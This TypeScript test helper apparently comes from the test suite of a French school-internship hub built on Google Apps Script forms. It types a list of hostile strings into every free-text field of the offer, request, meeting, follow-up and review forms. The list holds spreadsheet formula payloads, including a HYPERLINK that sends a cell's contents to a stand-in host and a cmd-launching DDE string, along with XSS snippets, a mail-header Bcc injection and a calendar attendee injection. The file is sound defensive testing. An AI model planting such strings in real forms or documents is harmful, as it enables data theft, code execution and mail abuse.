/** Strings from outside, put into every free text of every form along a whole road: offer, request, meeting, answer, review. */
import type { FormAnswers } from 'apps-script-local';
import { asksHost, HOUR, Hub, linkIn, linksIn, MINUTE, offerAnswers, plain, RAW, requestAnswers, SAY } from './hub';
import { typeRow } from './disturb/type-row';
import { otherBranches } from './injection-branches';
import { formOf, inject } from './injection-forms';

/** What a person who means harm, or who does not know, may type. */
export const STRINGS = [
  '=HYPERLINK("https://mal.example/?"&A1;"Cliquez")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  'x\r\nBcc: mal@mal.example',
  'x\nEND:VEVENT\nATTENDEE:mailto:mal@mal.example',
  '{{html}} ${1+1} <?= 1+1 ?>',
] as const;
const WHAT = 'Que souhaitez-vous faire\u00a0?';

/** The whole road with the string in every field: offer, request, contributions, proposition, answer, follow-up, review. */
export function road(string: string): Hub {
  const hub = Hub.open();
  const meeting = { Genre: 'Formation de tuteurs', Date: '06/01/2027', Début: '17 h 00', Fin: '18 h 00', Places: '9' };
  typeRow(hub, 'Rencontres', { ...meeting, Titre: 'Accueillir un premier stagiaire' });
  inject(hub, formOf(hub, 'offer'), offerAnswers('Alpha'), string);
  inject(hub, formOf(hub, 'request'), requestAnswers(), string);
  contribute(hub, string);
  hub.advance(4 * MINUTE);
  // A company that the school says it has asked is not proposed again: this request names none.
  const days = { 'Premier jour': '2027-01-07', 'Dernier jour': '2027-01-08', 'Initiales de l’élève': 'A. B.' };
  inject(hub, formOf(hub, 'request'), requestAnswers(days), string, [/commune/i, /^Lesquelles/]);
  const asked = hub.rows('Demandes').at(-1)!['Référence']!;
  const [host] = hub.hosts(asked);
  const offer = host?.offerReference === undefined ? {} : { offerReference: host.offerReference };
  hub.ask('sendPropositions', { requestReference: asked, choices: [{ companyReference: host!.companyReference, ...offer }] });
  hub.advance(4 * MINUTE);
  open(hub, asked, string, asksHost, { [SAY.question]: SAY.yes });
  hub.advance(4 * MINUTE);
  follow(hub, 'DEM-2026-0001', string, /a trouvé/);
  follow(hub, asked, string, /^(?:Autre chose|Oui|Non|La convention|Le lieu)/);
  look(hub, string);
  follow(hub, asked, string, /quitte|ne fera pas/);
  otherBranches(hub, string);
  return hub;
}

/** Each kind of contribution; the meeting is signed up for. */
function contribute(hub: Hub, string: string): void {
  const contribution = formOf(hub, 'contribution');
  const what = hub.runtime.form(contribution).items.find(({ title }) => title === WHAT)!;
  const Code = hub.rows('Rencontres').at(-1)!['Référence']!;
  for (const { value } of what.choices!)
    inject(hub, contribution, { [WHAT]: value, 'Votre courriel': 'nour@lycee.example', Code }, string, []);
}

/** The teacher says where the request stands, by the link of a mail: the branches of the form that the pattern names. */
function follow(hub: Hub, asked: string, string: string, which: RegExp): void {
  const formId = formOf(hub, 'follow-up');
  const say = hub.runtime.form(formId).items.find(({ title }) => title.startsWith('Que souhaitez-vous dire'))!;
  const links = hub.runtime.mailbox().flatMap((mail) => (mail.subject.includes(asked) ? linksIn(mail) : []));
  const link = links.find((one) => hub.runtime.readPrefilledUrl(one).formId === formId)!;
  const { answers } = hub.runtime.readPrefilledUrl(link);
  const chosen = say.choices!.filter(({ value }) => which.test(value));
  expect(chosen.length).toBeGreaterThan(0);
  for (const { value } of chosen) inject(hub, formId, { ...answers, [say.title]: value }, string, []);
  hub.advance(4 * MINUTE);
}

/** The last mail of that kind about the request is opened, and its form filled. */
function open(hub: Hub, asked: string, string: string, isIt: typeof asksHost, more: FormAnswers): void {
  const mail = hub.runtime
    .mailbox()
    .filter((one) => isIt(one) && one.subject.includes(asked))
    .at(-1);
  const { formId, answers } = hub.runtime.readPrefilledUrl(linkIn(mail!));
  inject(hub, formId, { ...answers, ...more }, string);
}

/** The stage is over, host and teacher look back on it; those who were at the meeting are noted. No clock comes by meanwhile. */
function look(hub: Hub, string: string): void {
  hub.runtime.setFault({ triggerTimes: { CLOCK: 0 } });
  hub.runtime.advanceTo('2027-01-12T09:30:00+01:00');
  hub.runtime.setFault({ triggerTimes: { CLOCK: 1 } });
  hub.advance(3 * HOUR);
  const formId = formOf(hub, 'review');
  const links = hub.runtime
    .mailbox()
    .flatMap(linksIn)
    .filter((link) => hub.runtime.readPrefilledUrl(link).formId === formId);
  for (const link of new Set(links)) inject(hub, formId, hub.runtime.readPrefilledUrl(link).answers, string);
  hub.ask(
    'noteAttendance',
    hub.rows('Rencontres').at(-1)!['Référence']!,
    hub.rows('Inscriptions').map((row) => row['Référence']!),
  );
  hub.advance(4 * MINUTE);
}

/** Titles of the raw answers that hold the string: the fields that were injected. */
export function fieldsOf(hub: Hub, string: string): string[] {
  const mark = plain(string.trim().replace(/\s+/g, ' ')).slice(0, 12);
  return Object.values(RAW).flatMap((tab) => {
    const rows = hub.runtime.spreadsheet().sheets.some(({ name }) => name === tab) ? hub.rows(tab) : [];
    const titles = rows.flatMap((row) => Object.keys(row).filter((title) => row[title]!.replace(/\s+/g, ' ').includes(mark)));
    return [...new Set(titles)].map((title) => `${tab} › ${title}`);
  });
}
